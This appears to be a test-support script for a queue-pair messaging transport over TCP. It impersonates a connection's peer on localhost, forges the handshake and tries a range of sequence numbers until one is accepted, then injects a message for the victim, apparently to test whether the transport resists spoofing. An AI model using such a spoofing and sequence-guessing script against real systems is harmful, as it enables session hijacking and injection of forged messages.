"""Connects to a queue pair's TCP port in the name of its peer: argv is the victim's number, the peer's, the text of a
message for the victim, the first sequence number to try, how many, and by how much each is larger than the one before.

Says how many `attempts` it made, and whether the message was `sent`.
"""

import os
import socket
import struct

from tests.support.versions import WIRE

victim, peer, text, first, count, step = argv
HELLO = struct.Struct("<IHHIIII16s32s")
GREETING = struct.Struct("<IB3x32s32s")
FRAME = struct.Struct("<BBHIIIIIIIQQQII")
MAGIC, WELCOME, SEND, HERE = 0x53524E52, 1, 1, 10
GID = bytes(10) + b"\xff\xff" + bytes([127, 0, 0, 1])


def frame(kind, data=b""):
    length = len(data)
    return FRAME.pack(kind, 0, 0, 0, 0, length, length, 0, 0, 0, 0, 0, 0, 0, 0) + data


def attach(psn):
    """A connection that was welcomed, or None."""
    connection = socket.socket()
    connection.connect(("127.0.0.1", int(victim) >> 8))
    connection.sendall(HELLO.pack(MAGIC, WIRE, 0, int(peer), int(victim), psn, 0, GID, os.urandom(32)))
    greeting = connection.recv(GREETING.size, socket.MSG_WAITALL)
    if len(greeting) == GREETING.size and GREETING.unpack(greeting)[1] == WELCOME:
        return connection
    connection.close()
    return None


attempts, sent = 0, False
while attempts < int(count) and not sent:
    connection = attach(int(first) + attempts * int(step))
    attempts += 1
    if connection:
        connection.sendall(frame(HERE) + frame(SEND, text.encode()))
        sent = True
say(attempts=attempts, sent=sent)
hear()
